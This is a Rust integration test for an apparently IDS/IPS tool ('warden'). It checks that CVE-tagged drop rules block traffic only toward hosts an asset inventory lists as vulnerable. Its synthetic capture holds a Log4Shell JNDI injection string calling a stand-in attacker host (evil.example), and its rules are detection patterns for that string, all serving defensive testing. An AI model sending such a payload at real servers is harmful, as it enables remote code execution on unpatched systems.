//! Asset-aware scoping (`--inventory`) as an operator reads it in
//! eve.json of a `--simulate-ips` run: a drop rule tied to a CVE blocks
//! toward the host the inventory marks vulnerable, only alerts (with
//! `alert.scope` saying why) toward a patched or unaffected one, follows
//! `inventory.unknown` for hosts the inventory does not list, and leaves
//! rules without a CVE alone; `warden impact --inventory` counts the same.

mod common;

use std::path::{Path, PathBuf};
use std::process::Command;

use common::{Capture, Tcp};
use serde_json::Value;

const VULNERABLE: [u8; 4] = [10, 7, 0, 10];
const PATCHED: [u8; 4] = [10, 7, 0, 20];
const UNAFFECTED: [u8; 4] = [10, 7, 0, 30];
const UNLISTED: [u8; 4] = [10, 7, 0, 40];

struct Fixture {
    dir: PathBuf,
    pcap: PathBuf,
    rules: PathBuf,
    inventory: PathBuf,
}

fn fixture(name: &str) -> Fixture {
    let dir = std::env::temp_dir().join(format!("warden-scope-{name}-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    let mut cap = Capture::new(1_700_000_000);
    for (i, server) in [VULNERABLE, PATCHED, UNAFFECTED, UNLISTED]
        .iter()
        .enumerate()
    {
        let mut t = Tcp::new([10, 7, 1, 1], 41000 + i as u16, *server, 80);
        t.handshake(&mut cap);
        t.send(
            &mut cap,
            b"GET /?x=${jndi:ldap://evil.example/a} HTTP/1.1\r\nHost: app\r\n\r\n",
        );
        t.reply(&mut cap, b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok");
        t.close(&mut cap);
    }
    // a rule without a CVE blocks wherever it matches
    let mut t = Tcp::new([10, 7, 1, 1], 42000, PATCHED, 8080);
    t.handshake(&mut cap);
    t.send(&mut cap, b"plain evil");
    t.reply(&mut cap, b"no");
    t.close(&mut cap);
    let pcap = dir.join("scope.pcap");
    cap.write(&pcap);
    let rules = dir.join("scope.rules");
    std::fs::write(
        &rules,
        "drop tcp any any -> any 80 (msg:\"log4j jndi (ET spelling)\"; flow:to_server; content:\"${jndi:\"; metadata: cve CVE_2021_44228, owner app-team; sid:3001;)\n\
         drop tcp any any -> any 80 (msg:\"log4j ldap (dashed spelling)\"; flow:to_server; content:\"ldap://\"; metadata: cve CVE-2021-44228; sid:3002;)\n\
         drop tcp any any -> any 8080 (msg:\"no cve\"; content:\"evil\"; sid:3003;)\n",
    )
    .unwrap();
    let inventory = dir.join("assets.yaml");
    std::fs::write(
        &inventory,
        "assets:\n\
         \x20 - address: 10.7.0.10\n    owner: app-team\n    services: [\"tcp/80\"]\n    vulnerable: [CVE-2021-44228]\n\
         \x20 - address: 10.7.0.20\n    patched: [CVE-2021-44228]\n\
         \x20 - address: 10.7.0.16/28\n    owner: lab\n    patched: [CVE-2023-1234]\n",
    )
    .unwrap();
    Fixture {
        dir,
        pcap,
        rules,
        inventory,
    }
}

fn simulate(f: &Fixture, inventory: Option<&Path>, extra: &[&str]) -> Vec<Value> {
    let logs = f.dir.join("logs");
    let _ = std::fs::remove_dir_all(&logs);
    let mut cmd = Command::new(env!("CARGO_BIN_EXE_warden"));
    cmd.args([
        "-r",
        f.pcap.to_str().unwrap(),
        "-S",
        f.rules.to_str().unwrap(),
    ])
    .args(["--simulate-ips", "-k", "none", "-l", logs.to_str().unwrap()])
    .args(extra);
    if let Some(i) = inventory {
        cmd.arg("--inventory").arg(i);
    }
    let out = cmd.output().expect("run warden");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    std::fs::read_to_string(logs.join("eve.json"))
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect()
}

fn ip(a: [u8; 4]) -> String {
    format!("{}.{}.{}.{}", a[0], a[1], a[2], a[3])
}

/// The alert of `sid` toward `server`.
fn alert(ev: &[Value], sid: u64, server: [u8; 4]) -> &Value {
    ev.iter()
        .find(|e| {
            e["event_type"] == "alert"
                && e["alert"]["signature_id"] == sid
                && e["dest_ip"] == ip(server)
        })
        .unwrap_or_else(|| panic!("alert {sid} toward {}", ip(server)))
}

/// The flow record's action toward `server`:`port`.
fn flow_action(ev: &[Value], server: [u8; 4], port: u64) -> Option<String> {
    ev.iter()
        .find(|e| e["event_type"] == "flow" && e["dest_ip"] == ip(server) && e["dest_port"] == port)
        .unwrap_or_else(|| panic!("flow to {}:{port}", ip(server)))["flow"]["action"]
        .as_str()
        .map(str::to_string)
}

#[test]
fn a_cve_drop_blocks_toward_the_vulnerable_host_and_only_alerts_elsewhere() {
    let f = fixture("simulate");
    let ev = simulate(&f, Some(&f.inventory), &[]);
    let scope = |sid, server| alert(&ev, sid, server)["alert"]["scope"].clone();
    let action = |sid, server| alert(&ev, sid, server)["alert"]["action"].clone();

    assert_eq!(action(3001, VULNERABLE), "blocked");
    assert_eq!(
        scope(3001, VULNERABLE),
        serde_json::json!({"asset": "10.7.0.10", "decision": "enforce", "reason": "vulnerable to CVE-2021-44228"})
    );
    assert_eq!(flow_action(&ev, VULNERABLE, 80).as_deref(), Some("drop"));

    for sid in [3001, 3002] {
        assert_eq!(action(sid, PATCHED), "allowed");
        assert_eq!(
            scope(sid, PATCHED),
            serde_json::json!({"asset": "10.7.0.20", "decision": "alert-only", "reason": "patched CVE-2021-44228"})
        );
    }
    assert_eq!(
        flow_action(&ev, PATCHED, 80),
        None,
        "patched host not blocked"
    );

    // inventoried (10.7.0.16/28), patched against something else only
    assert_eq!(action(3001, UNAFFECTED), "allowed");
    assert_eq!(
        scope(3001, UNAFFECTED)["reason"],
        "not listed as vulnerable to CVE-2021-44228"
    );
    assert_eq!(flow_action(&ev, UNAFFECTED, 80), None);

    // not in the inventory: enforced by default
    assert_eq!(action(3001, UNLISTED), "blocked");
    assert_eq!(
        scope(3001, UNLISTED),
        serde_json::json!({"asset": "10.7.0.40", "decision": "enforce", "reason": "not in the inventory (inventory.unknown: enforce)"})
    );

    // a rule without a CVE is not scoped, even toward the patched host
    let plain = alert(&ev, 3003, PATCHED);
    assert_eq!(plain["alert"]["action"], "blocked");
    assert!(plain["alert"].get("scope").is_none());
    assert_eq!(flow_action(&ev, PATCHED, 8080).as_deref(), Some("drop"));

    // drop events only for what was enforced
    let drops: Vec<&str> = ev
        .iter()
        .filter(|e| e["event_type"] == "drop")
        .map(|e| e["dest_ip"].as_str().unwrap())
        .collect();
    assert!(drops.contains(&"10.7.0.10") && drops.contains(&"10.7.0.40"));
    assert!(!drops.contains(&"10.7.0.30"));
    let _ = std::fs::remove_dir_all(&f.dir);
}

#[test]
fn unknown_assets_follow_the_config_policy_and_csv_inventories_work() {
    let f = fixture("unknown");
    let csv = f.dir.join("assets.csv");
    std::fs::write(
        &csv,
        "address,owner,vulnerable,patched\n10.7.0.10,app-team,CVE-2021-44228,\n10.7.0.20,,,CVE_2021_44228\n",
    )
    .unwrap();
    let ev = simulate(&f, Some(&csv), &["--set", "inventory.unknown=alert"]);
    assert_eq!(alert(&ev, 3001, VULNERABLE)["alert"]["action"], "blocked");
    assert_eq!(alert(&ev, 3001, PATCHED)["alert"]["action"], "allowed");
    for server in [UNAFFECTED, UNLISTED] {
        let a = alert(&ev, 3001, server);
        assert_eq!(a["alert"]["action"], "allowed");
        assert_eq!(
            a["alert"]["scope"]["reason"],
            "not in the inventory (inventory.unknown: alert)"
        );
        assert_eq!(flow_action(&ev, server, 80), None);
    }
    // without an inventory nothing is scoped
    let ev = simulate(&f, None, &[]);
    assert_eq!(alert(&ev, 3001, PATCHED)["alert"]["action"], "blocked");
    assert!(alert(&ev, 3001, PATCHED)["alert"].get("scope").is_none());
    let _ = std::fs::remove_dir_all(&f.dir);
}

#[test]
fn a_bad_inventory_or_policy_value_is_a_clear_error() {
    let f = fixture("bad");
    let bad = f.dir.join("bad.yaml");
    std::fs::write(&bad, "assets:\n  - address: 10.7.0.300\n").unwrap();
    let run = |extra: &[&str]| {
        Command::new(env!("CARGO_BIN_EXE_warden"))
            .args([
                "-r",
                f.pcap.to_str().unwrap(),
                "-S",
                f.rules.to_str().unwrap(),
            ])
            .args(["--simulate-ips", "-l", f.dir.join("l").to_str().unwrap()])
            .args(extra)
            .output()
            .unwrap()
    };
    let out = run(&["--inventory", bad.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(1));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("10.7.0.300") && err.contains("bad.yaml"),
        "{err}"
    );
    let out = run(&[
        "--inventory",
        f.inventory.to_str().unwrap(),
        "--set",
        "inventory.unknown=maybe",
    ]);
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stderr).contains("inventory.unknown: 'maybe'"));
    let _ = std::fs::remove_dir_all(&f.dir);
}

#[test]
fn impact_with_an_inventory_counts_only_what_would_be_enforced() {
    let f = fixture("impact");
    let json = f.dir.join("impact.json");
    let out = Command::new(env!("CARGO_BIN_EXE_warden"))
        .args([
            "impact",
            "-r",
            f.pcap.to_str().unwrap(),
            "-S",
            f.rules.to_str().unwrap(),
        ])
        .args(["-k", "none", "--inventory", f.inventory.to_str().unwrap()])
        .args(["--json", json.to_str().unwrap()])
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let doc: Value = serde_json::from_str(&std::fs::read_to_string(&json).unwrap()).unwrap();
    let servers: Vec<&str> = doc["services"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| s["server"].as_str().unwrap())
        .collect();
    let mut servers = servers;
    servers.sort();
    assert_eq!(servers, ["10.7.0.10:80", "10.7.0.20:8080", "10.7.0.40:80"]);
    let _ = std::fs::remove_dir_all(&f.dir);
}
